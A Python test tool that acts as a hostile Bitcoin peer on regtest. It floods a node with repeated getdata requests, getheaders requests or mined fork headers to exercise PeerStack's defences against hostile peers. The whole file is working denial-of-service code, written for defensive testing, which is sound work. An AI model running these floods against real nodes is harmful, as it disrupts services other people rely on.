#!/usr/bin/env python3
"""Hostile Bitcoin P2P peers (python-bitcoinlib framing) for PeerStack's hostile-peer tests,
against 127.0.0.1 only.

  btc_attack.py <host:port> <mode> <seconds>
    getdata    asks, again and again, for the tip block named 1,000 times in one getdata
    getheaders sends getheaders from genesis as fast as it can
    forks      sends headers (valid regtest proof of work) that fork from every height
Each connection completes the version handshake, then attacks without reading (a tiny receive
buffer); a dropped connection is made again. Prints {"sent": bytes, "connections": n} at the end.
"""
import hashlib, json, random, socket, struct, sys, time

import bitcoin
from bitcoin.core import CBlockHeader, b2lx
from bitcoin.core.serialize import VarIntSerializer
from bitcoin.messages import MsgSerializable, msg_getdata, msg_getheaders, msg_headers, msg_verack, msg_version
from bitcoin.net import CInv

bitcoin.SelectParams("regtest")


class CoreHeaders(msg_headers):
    def msg_ser(self, f):
        VarIntSerializer.stream_serialize(len(self.headers), f)
        for header in self.headers:
            header.stream_serialize(f)
            f.write(b"\x00")


def read_message(sock):
    header = b""
    while len(header) < 24:
        chunk = sock.recv(24 - len(header))
        if not chunk:
            raise ConnectionError("closed")
        header += chunk
    length = struct.unpack("<I", header[16:20])[0]
    body = b""
    while len(body) < length:
        chunk = sock.recv(length - len(body))
        if not chunk:
            raise ConnectionError("closed")
        body += chunk
    return header[4:16].rstrip(b"\x00").decode(), body


def handshake(target):
    sock = socket.create_connection(target, timeout=5)
    version = msg_version()
    version.nStartingHeight = 0
    sock.sendall(version.to_bytes())
    got_verack = False
    while not got_verack:
        command, _ = read_message(sock)
        if command == "version":
            sock.sendall(msg_verack().to_bytes())
        got_verack = got_verack or command == "verack"
    return sock


def chain_hashes(sock):
    """The node's headers from genesis (what it answers to our getheaders)."""
    request = msg_getheaders()
    request.locator.vHave = [bitcoin.params.GENESIS_BLOCK.GetHash()]
    sock.sendall(request.to_bytes())
    deadline = time.time() + 10
    while time.time() < deadline:
        command, body = read_message(sock)
        if command == "headers":
            count = body[0]
            headers, offset = [], 1
            for _ in range(count):
                headers.append(CBlockHeader.deserialize(body[offset:offset + 80]))
                offset += 81
            return [bitcoin.params.GENESIS_BLOCK.GetHash()] + [h.GetHash() for h in headers], headers
    return [bitcoin.params.GENESIS_BLOCK.GetHash()], []


def mined(parent, when):
    """A header on `parent` that meets regtest's target (about one try in two)."""
    while True:
        header = CBlockHeader(nVersion=0x20000000, hashPrevBlock=parent,
                              hashMerkleRoot=random.randbytes(32), nTime=when, nBits=0x207fffff,
                              nNonce=random.getrandbits(32))
        if int.from_bytes(header.GetHash(), "little") <= 0x7fffff << (8 * (0x20 - 3)):
            return header


def attack(target, mode, deadline, stats):
    sock = handshake(target)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    hashes, headers = chain_hashes(sock)
    stats["connections"] += 1
    if mode == "getdata":
        message = msg_getdata()
        message.inv = [CInv() for _ in range(1000)]
        for inv in message.inv:
            inv.type, inv.hash = 2, hashes[-1]
        payload = message.to_bytes()
    elif mode == "getheaders":
        message = msg_getheaders()
        message.locator.vHave = [hashes[0]]
        payload = message.to_bytes() * 100
    sock.settimeout(5)
    while time.time() < deadline:
        if mode == "forks":
            forks = []
            for _ in range(2000):
                parent = random.choice(hashes)
                header = mined(parent, int(time.time()))
                forks.append(header)
                hashes.append(header.GetHash())
            message = CoreHeaders()
            message.headers = forks
            payload = message.to_bytes()
        sock.sendall(payload)
        stats["sent"] += len(payload)


def main():
    target, mode, seconds = sys.argv[1:4]
    host, _, port = target.rpartition(":")
    deadline = time.time() + float(seconds)
    stats = {"sent": 0, "connections": 0}
    while time.time() < deadline:
        try:
            attack((host, int(port)), mode, deadline, stats)
        except (OSError, ConnectionError):
            time.sleep(0.2)
    print(json.dumps(stats), flush=True)


main()
